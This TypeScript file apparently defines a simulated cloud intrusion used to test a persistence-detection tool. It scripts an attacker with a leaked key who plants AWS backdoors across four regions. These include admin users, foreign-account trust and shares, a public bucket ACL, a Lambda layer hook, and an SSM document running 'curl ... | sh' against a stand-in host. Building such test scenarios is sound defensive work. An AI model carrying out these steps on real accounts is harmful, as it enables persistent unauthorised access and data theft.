import type { ScenarioDef, Step, TruthPersistence, Vars } from '../types.js';
import { zipOneFile } from '../../services/lambda/zip.js';
import { W, arn } from '../world.js';
import { attackerStep, MIN, HOUR } from './steps.js';

const FOREIGN = W.external;
const USER = 'svc-monitoring';
const SSH_KEY = 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIB7gqJ0yM5m1cUeYkq3X9t0o3mW1r5p0m0sJ8p2bq0e1 ops@jump';
const ADMIN_DOC = JSON.stringify({
  Version: '2012-10-17',
  Statement: [{ Effect: 'Allow', Action: '*', Resource: '*' }],
});
const SAML_METADATA =
  '<?xml version="1.0"?><EntityDescriptor xmlns="urn:oasis:names:tc:SAML:2.0:metadata" entityID="https://sso.acme-support.example/saml"><IDPSSODescriptor protocolSupportEnumeration="urn:oasis:names:tc:SAML:2.0:protocol"/></EntityDescriptor>';
const LAYER_ZIP = zipOneFile('python/sitecustomize.py', 'import urllib.request, os\n# phones home\n');
const EU = 'eu-west-1';
const AP = 'ap-southeast-2';
const EU_CENTRAL = 'eu-central-1';

/** A step whose truth is one persistence item (the engine adds the step's event ids). */
function planted(
  at: number,
  service: Step['service'],
  op: string,
  input: Step['input'],
  item: (out: Record<string, unknown>, v: Vars) => Omit<TruthPersistence, 'eventIds'>,
  extra: Partial<Step> = {},
): Step {
  return attackerStep(at, service, op, input, {
    ...extra,
    truth: (out, v) => ({ persistence: [{ region: extra.region ?? 'global', ...item(out, v) }] }),
  });
}

const foreignTrust = JSON.stringify({
  Version: '2012-10-17',
  Statement: [
    { Effect: 'Allow', Principal: { Service: 'ec2.amazonaws.com' }, Action: 'sts:AssumeRole' },
    { Effect: 'Allow', Principal: { AWS: `arn:aws:iam::${FOREIGN}:root` }, Action: 'sts:AssumeRole' },
  ],
});

/**
 * Backdoors: with the leaked key the attacker leaves one of every kind of way back in that the
 * simulated account supports, in four regions — IAM identities and credentials, policy and trust
 * changes, identity providers, shared snapshots and images, bucket policy and ACL, Lambda URL,
 * permission, layer and environment, an EventBridge rule to their account, a shared SSM document,
 * a StackSet deploying into their account, and a role session and a federation token still valid.
 */
export const backdoors: ScenarioDef = {
  name: 'backdoors',
  summary:
    'leaked key → one of every persistence kind scope looks for (IAM, identity providers, shares, bucket policy/ACL, Lambda URL/permission/layer/env, EventBridge, SSM, StackSet, live sessions) in 4 regions',
  attackStartsBeforeEnd: 3 * HOUR,
  leakedKey: true,
  attackers: [
    {
      name: 'attacker',
      kind: 'attacker',
      ip: '185.220.101.47',
      userAgent: 'aws-cli/2.17.3 Python/3.12.4 Linux/6.8.0-kali2-amd64 exe/x86_64.kali.2024 prompt/off',
    },
  ],
  steps: [
    attackerStep(0, 'sts', 'GetCallerIdentity', {}),
    attackerStep(MIN, 'iam', 'ListUsers', {}),
    planted(2 * MIN, 'iam', 'CreateUser', { UserName: USER }, () => ({
      kind: 'iam-user',
      detail: 'new user',
      resource: arn.user(USER),
    })),
    planted(
      2 * MIN + 20_000,
      'iam',
      'AttachUserPolicy',
      { UserName: USER, PolicyArn: 'arn:aws:iam::aws:policy/AdministratorAccess' },
      () => ({
        kind: 'policy-attachment',
        detail: 'AdministratorAccess on the new user',
        resource: `${USER}/AdministratorAccess`,
      }),
    ),
    planted(
      2 * MIN + 40_000,
      'iam',
      'CreateLoginProfile',
      { UserName: USER, Password: 'Monitoring#2026-Ops', PasswordResetRequired: false },
      () => ({
        kind: 'login-profile',
        detail: 'console password for the new user',
        resource: arn.user(USER),
      }),
    ),
    planted(4 * MIN, 'iam', 'CreateAccessKey', { UserName: W.adminUser }, (out) => ({
      kind: 'access-key',
      detail: `key for the existing admin ${W.adminUser}`,
      resource: (out.AccessKey as { AccessKeyId: string }).AccessKeyId,
    })),
    attackerStep(
      5 * MIN,
      'iam',
      'CreateVirtualMFADevice',
      { VirtualMFADeviceName: `${W.adminUser}-backup` },
      { save: (out, v) => (v.mfaSerial = (out.VirtualMFADevice as { SerialNumber: string }).SerialNumber) },
    ),
    planted(
      5 * MIN + 30_000,
      'iam',
      'EnableMFADevice',
      (v) => ({
        UserName: W.adminUser,
        SerialNumber: v.mfaSerial,
        AuthenticationCode1: '318452',
        AuthenticationCode2: '902177',
      }),
      (_out, v) => ({
        kind: 'mfa-device',
        detail: `attacker's MFA device on ${W.adminUser}`,
        resource: String(v.mfaSerial),
      }),
    ),
    planted(
      6 * MIN,
      'iam',
      'UploadSSHPublicKey',
      { UserName: W.adminUser, SSHPublicKeyBody: SSH_KEY },
      (out) => ({
        kind: 'ssh-key',
        detail: `CodeCommit SSH key for ${W.adminUser}`,
        resource: (out.SSHPublicKey as { SSHPublicKeyId: string }).SSHPublicKeyId,
      }),
    ),
    planted(
      7 * MIN,
      'iam',
      'PutUserPolicy',
      { UserName: W.reportingUser, PolicyName: 'cache-refresh', PolicyDocument: ADMIN_DOC },
      () => ({
        kind: 'inline-policy',
        detail: `admin inline policy on ${W.reportingUser}`,
        resource: `${W.reportingUser}/cache-refresh`,
      }),
    ),
    planted(
      8 * MIN,
      'iam',
      'CreatePolicyVersion',
      { PolicyArn: arn.policy(W.deployPolicy), PolicyDocument: ADMIN_DOC, SetAsDefault: true },
      () => ({
        kind: 'policy-version',
        detail: 'admin default version',
        resource: arn.policy(W.deployPolicy),
      }),
    ),
    planted(
      9 * MIN,
      'iam',
      'UpdateAssumeRolePolicy',
      { RoleName: W.appRole, PolicyDocument: foreignTrust },
      () => ({ kind: 'role-trust', detail: `trust opened to ${FOREIGN}`, resource: arn.role(W.appRole) }),
    ),
    planted(
      10 * MIN,
      'iam',
      'CreateSAMLProvider',
      { Name: 'acme-support-sso', SAMLMetadataDocument: SAML_METADATA },
      (out) => ({
        kind: 'saml-provider',
        detail: 'SAML identity provider',
        resource: String(out.SAMLProviderArn),
      }),
    ),
    planted(
      11 * MIN,
      'iam',
      'CreateOpenIDConnectProvider',
      {
        Url: 'https://token.actions.acme-ci.example',
        ClientIDList: ['sts.amazonaws.com'],
        ThumbprintList: ['6938fd4d98bab03faadb97b34396831e3780aea1'],
      },
      (out) => ({
        kind: 'oidc-provider',
        detail: 'OIDC identity provider',
        resource: String(out.OpenIDConnectProviderArn),
      }),
    ),
    planted(
      15 * MIN,
      'ec2',
      'ImportKeyPair',
      { KeyName: 'jump-recovery', PublicKeyMaterial: Buffer.from(SSH_KEY) },
      () => ({ kind: 'key-pair', detail: 'attacker SSH key pair', resource: 'jump-recovery' }),
      { region: EU_CENTRAL },
    ),
    attackerStep(
      17 * MIN,
      'ec2',
      'CreateVolume',
      { AvailabilityZone: `${AP}a`, Size: 8 },
      { region: AP, save: (out, v) => (v.apVolume = out.VolumeId) },
    ),
    attackerStep(
      18 * MIN,
      'ec2',
      'CreateSnapshot',
      (v) => ({ VolumeId: v.apVolume, Description: 'dr copy' }),
      {
        region: AP,
        save: (out, v) => (v.apSnapshot = out.SnapshotId),
      },
    ),
    planted(
      19 * MIN,
      'ec2',
      'ModifySnapshotAttribute',
      (v) => ({
        SnapshotId: v.apSnapshot,
        Attribute: 'createVolumePermission',
        OperationType: 'add',
        UserIds: [FOREIGN],
      }),
      (_out, v) => ({
        kind: 'snapshot-share',
        detail: `shared with ${FOREIGN}`,
        resource: String(v.apSnapshot),
      }),
      { region: AP },
    ),
    attackerStep(
      20 * MIN,
      'ec2',
      'CreateImage',
      (v) => ({ InstanceId: v.appInstance, Name: 'app-server-golden', NoReboot: true }),
      { save: (out, v) => (v.image = out.ImageId) },
    ),
    planted(
      21 * MIN,
      'ec2',
      'ModifyImageAttribute',
      (v) => ({ ImageId: v.image, LaunchPermission: { Add: [{ UserId: FOREIGN }] } }),
      (_out, v) => ({ kind: 'ami-share', detail: `image shared with ${FOREIGN}`, resource: String(v.image) }),
      { region: W.region },
    ),
    planted(
      23 * MIN,
      's3',
      'PutBucketPolicy',
      {
        Bucket: W.customerData,
        Policy: JSON.stringify({
          Version: '2012-10-17',
          Statement: [
            {
              Sid: 'sync',
              Effect: 'Allow',
              Principal: { AWS: `arn:aws:iam::${FOREIGN}:root` },
              Action: ['s3:GetObject', 's3:ListBucket'],
              Resource: [`arn:aws:s3:::${W.customerData}`, `arn:aws:s3:::${W.customerData}/*`],
            },
          ],
        }),
      },
      () => ({ kind: 'bucket-policy', detail: `read by ${FOREIGN}`, resource: W.customerData }),
      { region: W.region },
    ),
    // ACLs are off on new buckets (BucketOwnerEnforced, Block Public Access): turn both back on first.
    attackerStep(
      24 * MIN - 40_000,
      's3',
      'PutBucketOwnershipControls',
      { Bucket: W.artifacts, OwnershipControls: { Rules: [{ ObjectOwnership: 'BucketOwnerPreferred' }] } },
      { region: W.region },
    ),
    attackerStep(
      24 * MIN - 20_000,
      's3',
      'DeletePublicAccessBlock',
      { Bucket: W.artifacts },
      { region: W.region },
    ),
    planted(
      24 * MIN,
      's3',
      'PutBucketAcl',
      { Bucket: W.artifacts, ACL: 'public-read' },
      () => ({ kind: 'bucket-acl', detail: 'readable by everyone', resource: W.artifacts }),
      { region: W.region },
    ),
    planted(
      26 * MIN,
      'lambda',
      'CreateFunctionUrlConfig',
      { FunctionName: W.fn, AuthType: 'NONE' },
      () => ({ kind: 'lambda-url', detail: 'public URL on the existing function', resource: W.fn }),
      { region: W.region },
    ),
    planted(
      26 * MIN + 30_000,
      'lambda',
      'AddPermission',
      {
        FunctionName: W.fn,
        StatementId: 'url-public',
        Action: 'lambda:InvokeFunctionUrl',
        Principal: '*',
        FunctionUrlAuthType: 'NONE',
      },
      () => ({ kind: 'lambda-permission', detail: 'anyone may invoke it', resource: W.fn }),
      { region: W.region },
    ),
    planted(
      27 * MIN,
      'lambda',
      'UpdateFunctionConfiguration',
      {
        FunctionName: W.fn,
        Environment: { Variables: { PYTHONSTARTUP: '/tmp/.s', LOG_SINK: 'https://collect.acme-ci.example' } },
      },
      () => ({ kind: 'lambda-env', detail: 'environment changed', resource: W.fn }),
      { region: W.region },
    ),
    planted(
      29 * MIN,
      'lambda',
      'PublishLayerVersion',
      { LayerName: 'py-telemetry', Content: { ZipFile: LAYER_ZIP }, CompatibleRuntimes: ['python3.12'] },
      (out) => ({
        kind: 'lambda-layer',
        detail: 'layer with a startup hook',
        resource: String(out.LayerVersionArn),
      }),
      { region: AP },
    ),
    planted(
      31 * MIN,
      'events',
      'PutRule',
      { Name: 'iam-audit-sync', EventPattern: JSON.stringify({ source: ['aws.iam'] }) },
      () => ({
        kind: 'eventbridge-rule',
        detail: `forwards IAM events to ${FOREIGN}`,
        resource: 'iam-audit-sync',
      }),
      { region: EU },
    ),
    attackerStep(
      31 * MIN + 30_000,
      'events',
      'PutTargets',
      {
        Rule: 'iam-audit-sync',
        Targets: [{ Id: 'sink', Arn: `arn:aws:events:${EU}:${FOREIGN}:event-bus/default` }],
      },
      { region: EU },
    ),
    attackerStep(
      33 * MIN,
      'ssm',
      'CreateDocument',
      {
        Name: 'Ops-DiskCleanup',
        DocumentType: 'Command',
        Content: JSON.stringify({
          schemaVersion: '2.2',
          description: 'disk cleanup',
          mainSteps: [
            {
              action: 'aws:runShellScript',
              name: 'clean',
              inputs: { runCommand: ['curl -s https://collect.acme-ci.example/k | sh'] },
            },
          ],
        }),
      },
      { region: EU },
    ),
    planted(
      33 * MIN + 30_000,
      'ssm',
      'ModifyDocumentPermission',
      { Name: 'Ops-DiskCleanup', PermissionType: 'Share', AccountIdsToAdd: [FOREIGN] },
      () => ({
        kind: 'ssm-document',
        detail: `run-command document shared with ${FOREIGN}`,
        resource: 'Ops-DiskCleanup',
      }),
      { region: EU },
    ),
    planted(
      35 * MIN,
      'cloudformation',
      'CreateStackSet',
      {
        StackSetName: 'org-baseline',
        TemplateBody: JSON.stringify({
          Resources: {
            Access: {
              Type: 'AWS::IAM::Role',
              Properties: {
                RoleName: 'org-baseline-access',
                AssumeRolePolicyDocument: JSON.parse(foreignTrust) as unknown,
              },
            },
          },
        }),
      },
      () => ({
        kind: 'stackset',
        detail: 'StackSet deploying an admin-trusting role',
        resource: 'org-baseline',
      }),
      { region: W.region },
    ),
    attackerStep(35 * MIN + 30_000, 'cloudformation', 'CreateStackInstances', {
      StackSetName: 'org-baseline',
      Accounts: [FOREIGN],
      Regions: [W.region],
    }),
    planted(
      40 * MIN,
      'sts',
      'AssumeRole',
      { RoleArn: arn.role(W.deployRole), RoleSessionName: 'maint', DurationSeconds: 43_200 },
      (out) => ({
        kind: 'role-session',
        detail: `${W.deployRole} session valid 12 h`,
        resource: (out.Credentials as { AccessKeyId: string }).AccessKeyId,
      }),
    ),
    planted(
      41 * MIN,
      'sts',
      'GetFederationToken',
      {
        Name: 'maint',
        DurationSeconds: 129_600,
        PolicyArns: [{ arn: 'arn:aws:iam::aws:policy/AdministratorAccess' }],
      },
      (out) => ({
        kind: 'federation-token',
        detail: 'federation token valid 36 h',
        resource: (out.Credentials as { AccessKeyId: string }).AccessKeyId,
      }),
    ),
  ],
};
